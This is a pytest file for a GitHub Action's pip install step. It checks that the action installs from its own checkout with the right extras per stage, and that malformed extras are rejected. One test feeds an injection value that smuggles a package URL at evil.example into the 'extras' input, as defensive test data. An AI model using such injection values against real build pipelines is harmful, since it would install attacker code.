"""The action's install step: pip installs the action's own checkout (GITHUB_ACTION_PATH, never a
name from a package index) with the extras the stage needs; the extras input cannot inject text."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from .test_action import ROOT, run_action


@pytest.fixture
def recording_venv(tmp_path: Path) -> tuple[Path, Path]:
    """RUNNER_TEMP whose venv python only records the arguments it gets."""
    temp = tmp_path / "runner-temp"
    bin_dir = temp / "pipeline-plugin-venv" / "bin"
    bin_dir.mkdir(parents=True)
    log = tmp_path / "pip-args"
    python = bin_dir / "python"
    python.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> "{log}"\n')
    python.chmod(python.stat().st_mode | stat.S_IXUSR)
    return temp, log


@pytest.mark.parametrize("with_, spec", [
    ({}, "[ci,mlflow,postgres]"),
    ({"target": "kubernetes"}, "[ci,mlflow,postgres,kubernetes]"),
    ({"model-uri": "arn:aws:sagemaker:eu-west-1:1:model-package/churn/3"}, "[ci,mlflow,postgres,sagemaker]"),
    ({"model-source": "huggingface"}, "[ci,mlflow,postgres,huggingface]"),
    ({"extras": ""}, ""),
])
def test_install_uses_the_actions_own_checkout_with_the_extras_needed(tmp_path, recording_venv, with_, spec):
    temp, log = recording_venv
    run = run_action({"stage": "package", **with_}, tmp_path, temp, steps=slice(0, 1))
    assert run.returncode == 0, run.stderr
    args = log.read_text().splitlines()
    assert args[:2] == ["-m", "pip"] and "install" in args
    assert args[-1] == f"{ROOT}{spec}"


def test_extras_that_are_not_names_stop_before_pip(tmp_path, recording_venv):
    temp, log = recording_venv
    run = run_action({"stage": "package", "extras": "ci] ; x @ https://evil.example/x.whl"}, tmp_path, temp,
                     steps=slice(0, 1))
    assert run.returncode == 2
    assert "::error title=pipeline-plugin::input 'extras' must be extra names" in run.stdout
    assert not log.exists()
